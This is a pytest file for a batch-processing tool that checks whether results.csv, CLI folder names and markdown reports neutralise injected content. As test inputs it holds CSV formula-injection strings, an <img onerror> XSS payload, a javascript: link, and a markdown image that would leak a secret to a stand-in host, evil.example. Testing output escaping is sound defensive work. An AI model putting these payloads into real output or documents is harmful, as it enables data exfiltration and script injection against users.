"""Attack: outputs carry injections: formulas in results.csv, rich markup in a folder
name, markdown and HTML from model text in artifacts."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from eightflow_app.flows.batch_documents import BatchParams, batch_documents
from typer.testing import CliRunner

from eightflow.observe.report import render_outputs
from eightflow.safety.inert import csv_cell, md_text

FORMULAS = ["=HYPERLINK(x)", "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "'quoted"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_escaped(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "a'quoted", 1.5, -2, None, "a=b"])
def test_other_cells_are_unchanged(value: object) -> None:
    assert csv_cell(value) == value


@pytest.mark.prefect
async def test_results_csv_is_escaped_and_parquet_raw(tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    name = "=HYPERLINK(evil)+@x.txt"
    (docs / name).write_text("The club meets on Tuesdays. Everyone is welcome to ride.\n")
    out = tmp_path / "out"
    params = BatchParams(folder=str(docs), out=str(out), concurrency=1)
    state = await batch_documents(**params.flow_parameters(), return_state=True)
    assert state.is_completed()
    with (out / "results.csv").open(encoding="utf-8") as fh:
        row = next(csv.DictReader(fh))
    assert row["id"] == "'" + name
    assert pd.read_parquet(out / "results.parquet")["id"].tolist() == [name]


def test_a_folder_named_with_markup_does_not_break_the_cli(tmp_path: Path) -> None:
    from eightflow.cli.main import app

    result = CliRunner().invoke(app, ["analyze", str(tmp_path / "notes[/bold]["), "--json"])
    assert result.exit_code == 2, result.output
    assert "notes[/bold][" in result.output
    assert "MarkupError" not in repr(result.exception)


@pytest.mark.parametrize(
    ("text", "inert"),
    [
        ("![x](http://evil.example/?q=secret)", r"![x\](http://evil.example/?q=secret)"),
        ("[click](javascript:alert(1))", r"[click\](javascript:alert(1))"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
        ("# Heading", r"\# Heading"),
        ("a | b", r"a \| b"),
        ("`code`", r"\`code\`"),
    ],
)
def test_model_text_in_markdown_is_escaped(text: str, inert: str) -> None:
    assert md_text(text) == inert
    assert inert in render_outputs({"summary": text})
